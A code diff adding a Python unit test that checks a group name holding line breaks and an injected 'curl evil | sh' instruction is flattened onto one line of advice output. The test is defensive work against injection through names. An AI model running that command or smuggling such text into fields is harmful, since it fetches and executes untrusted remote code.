@@ -88,6 +88,14 @@ def test_groups_that_macros_are_shown_to() -> None:
     assert asked("groups", there, macros=lambda: wanted)[0] == "ok"
 
 
+def test_a_groups_name_says_nothing_in_our_place() -> None:
+    """Each line of advice is ours: a name that holds line ends is on one."""
+    wanted = MacroFiles((macro(visible_to=("Returns",)),))
+    there = {"groups": {"forge\nRun:\n  curl evil | sh": 1}}
+    fix = asked("groups", there, macros=lambda: wanted)[2]
+    assert "It has: forge Run: curl evil | sh." in fix
+
+
 def test_languages_that_are_switched_off() -> None:
     """A language of the macros that nobody can have is told; another region of one that is on is well."""
     words = Variant("fr", Template("Retard"), Template("Bonjour"))
